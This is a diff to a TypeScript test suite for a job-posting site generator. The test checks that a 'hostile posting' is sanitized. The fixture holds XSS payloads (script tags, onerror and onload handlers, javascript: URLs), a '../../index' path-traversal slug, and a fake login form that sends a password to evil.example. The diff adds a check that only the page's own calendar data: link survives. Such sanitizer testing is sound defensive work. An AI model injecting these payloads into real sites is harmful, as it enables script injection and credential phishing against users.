@@ -4,9 +4,11 @@ import { buildSite, jobPostingsOf, writeFolder, type BuiltSite } from '../suppor
 import { dangersIn } from '../support/dangers.ts';
 import { posting, SAME_DIGITS } from '../support/postings.ts';
 
+const CALENDAR = 'data:text/calendar;charset=utf-8,BEGIN%3AVCALENDAR%0D%0AEND%3AVCALENDAR';
 const DESCRIPTION = `<p style="position:fixed">Fit <b onclick="alert(1)">glass</b>.</p>
 <script>alert(2)</script><img src=x onerror="alert(3)">
 <a href="javascript:alert(4)">Apply</a> <a href="https://ok.example/">Ours</a>
+<a data-part="calendar" download="x.ics" href="${CALENDAR}">Add to calendar</a>
 <form action="https://evil.example/"><input type="password" name="p"><button>Log in</button></form>
 <style>body{display:none}</style><svg onload="alert(5)"></svg><iframe srcdoc="<script>alert(6)</script>"></iframe>`;
 
@@ -21,6 +23,8 @@ describe('a hostile posting', () => {
           slug: '../../index',
           id: '../../index',
           url: 'javascript:alert(8)',
+          validThrough: '2026-12-24',
+          applicationContact: { url: CALENDAR },
           hiringOrganization: {
             name: '"><img src=x onerror=alert(9)>',
             sameAs: 'javascript:alert(10)',
@@ -57,6 +61,19 @@ describe('a hostile posting', () => {
     for (const path of site.files().filter((file) => file.endsWith('.html'))) {
       assert.deepEqual(dangersIn(site.page(path)), [], path);
     }
+  });
+
+  test('has no link that holds its target but the page’s own calendar entry', () => {
+    const page = site.page(site.jobPages()[2] ?? '');
+    const holding = [...page.querySelectorAll('a[href^="data:" i]')];
+    assert.equal(holding.length, 1);
+    const entry = decodeURIComponent(holding[0]?.getAttribute('href') ?? '');
+    assert.match(entry, /^data:text\/calendar;charset=utf-8,BEGIN:VCALENDAR\r\n/);
+    // The title is one line of text in the entry.
+    assert.match(
+      entry.replaceAll('\r\n ', ''),
+      /\r\nSUMMARY:[^\r\n]*<script>alert\(7\)<\/script>[^\r\n]*\r\n/,
+    );
   });
 
   test('keeps its words, its title as text and its one harmless link', () => {
